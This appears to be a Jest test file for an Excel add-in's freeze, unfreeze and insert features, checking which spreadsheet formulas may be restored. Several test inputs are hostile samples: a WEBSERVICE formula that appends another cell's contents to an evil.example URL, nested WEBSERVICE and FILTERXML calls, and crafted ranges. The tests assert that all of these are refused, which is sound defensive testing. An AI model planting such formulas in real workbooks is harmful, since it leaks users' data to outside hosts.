/**
 * @jest-environment jsdom
 *
 * Freeze and Unfreeze against the strict fake host, which turns a string written through
 * Range.values into a formula when it starts with =, +, - or @ (as Excel does):
 *  - Freeze and Insert keep API text text (valuesAsJson where ExcelApi 1.16 is there, else Excel's
 *    text prefix);
 *  - Unfreeze restores any formula that makes an SVC call and reaches nothing else, at its recorded
 *    address, within the size of an SVC result, where the cells still hold the frozen values;
 *    crafted parts get a message and nothing is written.
 */
import { FROZEN_NAMESPACE, frozenXml } from "../../src/office/frozen-part";
import { freeze, listFrozen, unfreeze } from "../../src/office/frozen";
import { frozenEntryProblem, restoreProblem, svcFormulaProblem } from "../../src/plan/freeze/check";
import { insertAtActiveCell } from "../../src/office/workbook";
import { fakeExcel, FakeExcel, HOSTILE } from "./fake-excel";

let x: FakeExcel;
beforeAll(() => {
  x = fakeExcel();
  x.fx.addSheet("Other");
});

type Office = { context: { requirements: { isSetSupported: (n: string, v?: string) => boolean } } };
const office = () => (window as unknown as { Office: Office }).Office;

/** What a cell holds: its formula, or its constant. */
const held = (address: string) => x.fx.formulaAt(address);
const run = <T>(batch: (ctx: Excel.RequestContext) => Promise<T>) => (window as unknown as { Excel: typeof Excel }).Excel.run(batch);

async function clearSheet(sheet: string) {
  for (const [a] of x.fx.shown(sheet)) x.fx.clearCell(a);
  for (const f of x.fx.formulasOf(sheet)) x.fx.clearCell(f.address);
  await run(async (ctx) => {
    const p = ctx.workbook.customXmlParts.getByNamespace(FROZEN_NAMESPACE).getOnlyItemOrNullObject();
    await ctx.sync();
    if (!p.isNullObject) p.delete();
  });
}

describe("Freeze keeps API text text", () => {
  for (const api of ["1.17 (valuesAsJson)", "1.15 (values with the text prefix)"]) {
    it(`with ExcelApi ${api}`, async () => {
      await clearSheet("Sheet1");
      const real = office().context.requirements.isSetSupported;
      if (api.startsWith("1.15")) office().context.requirements.isSetSupported = (n, v) => (n === "ExcelApi" ? Number(v) <= 1.15 : real(n, v));
      try {
        await x.fx.setFormula("Sheet1!A1", "=SVC.TEXTS()");
        x.fx.select("Sheet1!A1");
        const done = (await freeze("sheet")).frozen;
        expect(done).toHaveLength(1);
        expect(done[0].range).toBe(`Sheet1!A1:A${HOSTILE.length + 1}`);
        expect(x.fx.formulasOf("Sheet1")).toEqual([]);
        expect(HOSTILE.map((_, i) => held(`Sheet1!A${i + 2}`))).toEqual(HOSTILE);
      } finally {
        office().context.requirements.isSetSupported = real;
      }
    });
  }

  it("(the fake host does what Excel does with such text written through values)", async () => {
    await run(async (ctx) => {
      ctx.workbook.worksheets.getItem("Other").getRange("Z1:Z2").values = [["=1+1"], ["@SUM(1)"]];
    });
    expect([held("Other!Z1"), held("Other!Z2")]).toEqual(["=1+1", "=SUM(1)"]);
    x.fx.clearCell("Other!Z1");
    x.fx.clearCell("Other!Z2");
  });
});

describe("Insert writes one SVC formula, nothing else", () => {
  it("refuses text that is not one SVC call with literal or reference arguments", async () => {
    x.fx.select("Other!B2");
    await expect(insertAtActiveCell('=WEBSERVICE("https://evil.example")')).rejects.toThrow(/not one SVC call/);
    await expect(insertAtActiveCell('=SVC.PEERS(WEBSERVICE("x"))')).rejects.toThrow(/calls WEBSERVICE/);
    await expect(insertAtActiveCell("+SVC.PEERS(1)")).rejects.toThrow(/not a formula/);
    expect(held("Other!B2")).toBe("");
    await expect(insertAtActiveCell('=SVC.PEERS("KO")')).resolves.toBe("Other!B2");
    x.fx.clearCell("Other!B2");
  });
});

describe("Unfreeze checks what it restores", () => {
  async function plant(entries: Parameters<typeof frozenXml>[0]) {
    await run(async (ctx) => {
      ctx.workbook.customXmlParts.add(frozenXml(entries));
    });
  }

  it("restores a frozen result whose cells still hold the frozen values", async () => {
    await clearSheet("Sheet1");
    await x.fx.setFormula("Sheet1!C3", '=SVC.PEERS("AAPL")');
    x.fx.select("Sheet1!C3");
    await freeze("sheet");
    expect(held("Sheet1!C3")).toBe("ticker");
    const r = await unfreeze();
    expect(r.refused).toEqual([]);
    expect(r.restored.map((e) => e.address)).toEqual(["Sheet1!C3"]);
    expect(held("Sheet1!C3")).toBe('=SVC.PEERS("AAPL")');
  });

  it("leaves a result whose values were edited since, and says so", async () => {
    await clearSheet("Sheet1");
    await x.fx.setFormula("Sheet1!C3", '=SVC.PEERS("AAPL")');
    x.fx.select("Sheet1!C3");
    await freeze("sheet");
    await x.fx.setFormula("Sheet1!C4", "my own note");
    const r = await unfreeze();
    expect(r.restored).toEqual([]);
    expect(r.refused[0].reason).toMatch(/no longer hold the values that were frozen/);
    expect([held("Sheet1!C3"), held("Sheet1!C4")]).toEqual(["ticker", "my own note"]);
    expect(await listFrozen()).toHaveLength(1);
  });

  it("refuses crafted entries: 520,000 cells on another sheet, a WEBSERVICE formula, a whole sheet, a range elsewhere", async () => {
    await clearSheet("Sheet1");
    await x.fx.setFormula("Other!A1", "keep me");
    await x.fx.setFormula("Other!Z500000", "keep me too");
    await x.fx.setFormula("Sheet1!A1", "frozen");
    await plant([
      { address: "Sheet1!A1", range: "Other!A1:Z20000", formula: '=SVC.PEERS("AAPL")', asOf: "" },
      { address: "Sheet1!B1", range: "Sheet1!B1", formula: '=WEBSERVICE("https://evil.example/?"&Other!A1)', asOf: "" },
      { address: "Sheet1!C1", range: "Sheet1!C1", formula: '=SVC.PEERS(WEBSERVICE("https://evil.example"))', asOf: "" },
      { address: "Sheet1!A1", range: "Sheet1!1:1048576", formula: '=SVC.PEERS("AAPL")', asOf: "" },
      { address: "Sheet1!D1", range: "Sheet1!A1:D1", formula: '=SVC.PEERS("AAPL")', asOf: "" },
      { address: "Sheet1!E1", range: "Sheet1!E1:E9", formula: '=SVC.PEERS("AAPL")', asOf: "", digest: "not-these-values" },
    ]);
    const r = await unfreeze();
    expect(r.restored).toEqual([]);
    expect(r.refused.map((f) => f.reason)).toEqual([
      expect.stringMatching(/another sheet/),
      expect.stringMatching(/calls WEBSERVICE/),
      expect.stringMatching(/calls WEBSERVICE/),
      expect.stringMatching(/covers 17,179,869,184 cells, more than an SVC result can/),
      expect.stringMatching(/does not start at its formula's cell/),
      expect.stringMatching(/no longer hold the values/),
    ]);
    expect([held("Other!A1"), held("Other!Z500000"), held("Sheet1!A1")]).toEqual(["keep me", "keep me too", "frozen"]);
    expect(x.fx.formulasOf("Sheet1")).toEqual([]);
  });
});

describe("the checks alone", () => {
  it("takes literal and reference arguments, with the operators and text functions analysts use", () => {
    expect(svcFormulaProblem('=SVC.FINANCIALS(Inputs!$A2,B$1,"FY-4:FY")')).toBeNull();
    expect(svcFormulaProblem('=SVC.FINANCIALS(INDEX(A2#,2,1),"revenue",5)')).toBeNull();
    expect(svcFormulaProblem('=SVC.FINANCIALS(UPPER(A1)&"",Period)')).toBeNull();
    expect(svcFormulaProblem("=SVC.FINANCIALS([1]Sheet1!A1)")).toMatch(/another workbook/);
    expect(svcFormulaProblem('=SVC.FINANCIALS(SVC.COMPANY("A","ticker"))')).toMatch(/second SVC call/);
    expect(svcFormulaProblem('=HYPERLINK("x")')).toMatch(/not one SVC call/);
  });
  it("restores any formula that makes an SVC call, wrapped or through a name, and nothing that reaches elsewhere", () => {
    const names = [
      { name: "Rev", sheet: null, formula: 'SVC.FINANCIALS("AAPL","revenue","FY")' },
      { name: "Leak", sheet: null, formula: 'WEBSERVICE("https://evil.example")' },
    ];
    for (const ok of ['=IFERROR(SVC.FINANCIALS("AAPL","revenue","FY"),"")', '=ROUND(SVC.FINANCIALS("NVDA","revenue","FY"),0)', '=SVC.FINANCIALS("JPM","net_income","FY")/1000', '=SVC.FINANCIALS("AAPL","revenue","FY")+SVC.FINANCIALS("MSFT","revenue","FY")', "=Rev/1000", '=SVC.FINANCIALS(SVC.COMPANY("A","ticker"),"revenue")'])
      expect([ok, restoreProblem(ok, "S", names)]).toEqual([ok, null]);
    expect(restoreProblem("=Leak", "S", names)).toMatch(/calls WEBSERVICE/);
    expect(restoreProblem("=Rev+Leak", "S", names)).toMatch(/calls WEBSERVICE/);
    expect(restoreProblem("=1+1", "S", names)).toMatch(/makes no SVC call/);
    expect(restoreProblem('=SVC.PEERS("KO")&FILTERXML(A1,"x")', "S", names)).toMatch(/calls FILTERXML/);
    expect(restoreProblem('=[1]Sheet1!A1+SVC.PEERS("KO")', "S", names)).toMatch(/another workbook/);
  });
  it("wants the range at the formula's cell, on its sheet, no larger than a result", () => {
    const e = { address: "S!B2", range: "S!B2:C3", formula: '=SVC.PEERS("KO")' };
    expect(frozenEntryProblem(e)).toBeNull();
    expect(frozenEntryProblem({ ...e, range: "S!B2:B100002" })).toMatch(/more than an SVC result can/);
    expect(frozenEntryProblem({ ...e, address: "S!B2:C2" })).toMatch(/not one cell/);
    expect(frozenEntryProblem({ ...e, range: "not a range" })).toMatch(/cannot be read/);
  });
});
